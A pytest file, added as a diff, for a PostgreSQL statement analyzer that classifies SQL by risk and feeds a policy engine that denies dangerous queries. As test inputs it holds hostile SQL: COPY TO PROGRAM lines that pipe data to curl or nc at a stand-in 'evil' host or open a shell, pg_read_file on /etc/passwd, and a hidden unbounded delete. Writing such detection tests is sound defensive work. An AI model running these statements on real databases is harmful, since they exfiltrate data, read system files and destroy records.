@@ -1,0 +1,168 @@
+"""Statement analysis with PostgreSQL's parser: classes, objects, hidden writes, fail closed."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import msgspec
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from proctor.events.context import decode_context
+from proctor.gateway.postgres.sql import Analyzer, SqlError, analyze
+from proctor.policy.engine import PolicyEngine
+from proctor.policy.loader import load_policies
+from proctor.risk.baselines import Baselines
+from proctor.risk.engine import RiskEngine
+
+POLICIES = Path(__file__).resolve().parents[3] / "examples" / "policies"
+
+
+@pytest.mark.parametrize(
+    ("sql", "action", "operation"),
+    [
+        ("SELECT * FROM orders WHERE id = 1", "read", "SELECT"),
+        ("select 1 union select 2", "read", "SELECT"),
+        ("SELECT * INTO backup FROM orders", "ddl", "SELECT INTO"),
+        ("INSERT INTO orders VALUES (1)", "write", "INSERT"),
+        ("UPDATE orders SET a = 1 WHERE id = 2", "write", "UPDATE"),
+        ("DELETE FROM orders WHERE id = 2", "write", "DELETE"),
+        ("COPY orders FROM STDIN", "write", "COPY FROM"),
+        ("COPY orders TO STDOUT", "read", "COPY TO"),
+        ("COPY orders TO PROGRAM 'curl -d @- evil.example'", "admin", "COPY PROGRAM"),
+        ("CREATE TABLE t (a int)", "ddl", "CREATE TABLE"),
+        ("DROP TABLE a, b.c", "ddl", "DROP TABLE"),
+        ("DROP VIEW v", "ddl", "DROP VIEW"),
+        ("TRUNCATE orders", "ddl", "TRUNCATE"),
+        ("ALTER TABLE t ADD COLUMN b int", "ddl", "ALTER TABLE"),
+        ("GRANT SELECT ON orders TO bob", "admin", "GRANT"),
+        ("REVOKE SELECT ON orders FROM bob", "admin", "REVOKE"),
+        ("GRANT admin TO bob", "admin", "GRANT ROLE"),
+        ("ALTER ROLE bob SUPERUSER", "admin", "ALTER ROLE"),
+        ("ALTER SYSTEM SET wal_level = minimal", "admin", "ALTER SYSTEM"),
+        ("DO $$ BEGIN PERFORM 1; END $$", "admin", "DO"),
+        ("CREATE EXTENSION dblink", "admin", "CREATE EXTENSION"),
+        ("VACUUM orders", "admin", "VACUUM"),
+        ("ANALYZE orders", "utility", "ANALYZE"),
+        ("BEGIN", "transaction", "BEGIN"),
+        ("ROLLBACK", "transaction", "ROLLBACK"),
+        ("SET search_path = public", "utility", "SET"),
+        ("SHOW search_path", "read", "SHOW"),
+        ("EXPLAIN DELETE FROM orders", "read", "EXPLAIN"),
+        ("EXPLAIN ANALYZE DELETE FROM orders", "write", "EXPLAIN ANALYZE DELETE"),
+        ("PREPARE q AS DELETE FROM orders WHERE id = $1", "write", "PREPARE DELETE"),
+        ("EXECUTE q(1)", "admin", "EXECUTE"),
+        ("DECLARE c CURSOR FOR SELECT 1", "read", "DECLARE CURSOR SELECT"),
+    ],
+)
+def test_classes_and_operations(sql: str, action: str, operation: str) -> None:
+    a = analyze(sql)
+    assert (a.action, a.operation) == (action, operation)
+
+
+def test_multi_statement_strings_take_their_most_guarded_class() -> None:
+    a = analyze("SELECT 1; BEGIN; DROP TABLE orders; COMMIT")
+    assert [s.action for s in a.statements] == ["read", "transaction", "ddl", "transaction"]
+    assert (a.action, a.operation) == ("ddl", "DROP TABLE")
+    assert a.features().statement_count == 4
+    assert [s.text for s in a.statements][2] == "DROP TABLE orders"
+
+
+def test_objects_functions_and_hidden_writes() -> None:
+    a = analyze(
+        "WITH gone AS (DELETE FROM public.orders RETURNING *) "
+        "SELECT pg_catalog.PG_READ_FILE('/etc/passwd'), lower(name) "
+        "FROM gone JOIN sales.customers c ON true"
+    )
+    s = a.statements[0]
+    assert s.operation == "SELECT"  # the statement is a SELECT …
+    assert s.writes_in_cte and not s.has_where  # … that deletes every order in a CTE
+    assert s.action == "write"  # so it is a write (a read-only grant must refuse it)
+    assert set(s.objects) == {"public.orders", "sales.customers"}  # "gone" is the CTE
+    assert set(s.functions) == {"pg_read_file", "lower"}
+    f = a.features()
+    assert f.writes_in_cte and not f.has_where and set(f.functions) == {"pg_read_file", "lower"}
+
+
+@pytest.mark.parametrize(
+    ("sql", "has_where"),
+    [
+        ("UPDATE t SET a = 1", False),
+        ("DELETE FROM t", False),
+        ("DELETE FROM t WHERE true", True),
+        ("UPDATE t SET a = 1 WHERE CURRENT OF c", True),
+        ("SELECT * FROM t", True),
+        ("WITH x AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING 1) SELECT * FROM x", True),
+    ],
+)
+def test_where_detection(sql: str, has_where: bool) -> None:
+    assert analyze(sql).features().has_where is has_where
+
+
+def test_copy_program_and_dangerous_functions_in_features() -> None:
+    f = analyze("COPY (SELECT 1) TO PROGRAM 'sh'; SELECT lo_export(1, '/tmp/x')").features()
+    assert f.copy_program and "lo_export" in f.functions
+
+
+def test_fingerprints_ignore_constants() -> None:
+    a = analyze("SELECT * FROM t WHERE id = 1").statements[0].fingerprint
+    b = analyze("select *  from t where id = 42").statements[0].fingerprint
+    c = analyze("SELECT * FROM u WHERE id = 1").statements[0].fingerprint
+    assert a == b != c and len(a) == 16
+
+
+def test_unparseable_sql_is_refused() -> None:
+    with pytest.raises(SqlError, match="does not parse"):
+        analyze("SELEC * FROM t")
+    with pytest.raises(SqlError):
+        analyze("SELECT 1; DROP TABLE")
+
+
+def test_empty_string_is_an_empty_analysis() -> None:
+    a = analyze("")
+    assert a.statements == () and a.action == "utility" and a.features().statement_count == 0
+
+
+def test_analyzer_caches_by_exact_text() -> None:
+    an = Analyzer(size=2)
+    first = an.analyze("SELECT 1")
+    assert an.analyze("SELECT 1") is first and an.hits == 1
+    an.analyze("SELECT 2")
+    an.analyze("SELECT 3")  # evicts "SELECT 1"
+    assert an.analyze("SELECT 1") is not first
+    with pytest.raises(SqlError):
+        an.analyze("nonsense here")
+
+
+@given(st.text(max_size=80))
+def test_any_text_parses_or_is_refused_cleanly(text: str) -> None:
+    try:
+        a = analyze(text)
+    except SqlError:
+        return
+    assert a.features().statement_count == len(a.statements)
+
+
+def test_the_analysis_feeds_risk_and_policy() -> None:
+    engine = PolicyEngine(load_policies(POLICIES))
+    risk = RiskEngine(Baselines())
+    base = decode_context(
+        {
+            "principal": {"id": "erin", "roles": ["engineer"]},
+            "action": {"class": "connect"},
+            "resource": {"type": "database", "name": "shop"},
+            "time": "2026-11-23T10:00:00Z",
+        }
+    )
+
+    def decide(sql: str) -> tuple[str, set[str]]:
+        ctx = msgspec.structs.replace(base, action=analyze(sql).action_info())
+        r = risk.assess(ctx)
+        return engine.decide(ctx, r).effect, {f.signal for f in r.factors}
+
+    assert decide("UPDATE orders SET paid = true WHERE id = 7") == ("allow", set())
+    effect, signals = decide("WITH x AS (DELETE FROM orders RETURNING 1) SELECT count(*) FROM x")
+    assert effect == "deny" and signals == {"unbounded_write"}  # no-unbounded-writes
+    effect, signals = decide("COPY orders TO PROGRAM 'nc evil 9'")
+    assert effect == "deny" and "copy_program" in signals
